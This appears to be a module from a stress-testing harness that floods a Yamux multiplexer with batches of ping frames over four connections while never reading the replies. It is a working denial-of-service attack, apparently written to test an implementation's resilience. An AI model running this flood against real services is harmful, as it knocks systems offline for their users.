/** Yamux pings on a connection whose answers are never taken off the wire. */
import { again, many, type Behaviour } from '../attack/target.js'
import { FLAG, FRAME, header, wire } from '../attack/wire.js'

const PINGS = Buffer.concat(Array.from({ length: 5_000 }, (_, id) => header(FRAME.ping, FLAG.syn, 0, id)))

export const attack: Behaviour = async (target, signal) => many(4, async () => again(signal, async () => {
  const connection = await wire(target, signal)
  connection.stopReading()
  while (!signal.aborted) await connection.send(PINGS)
}))
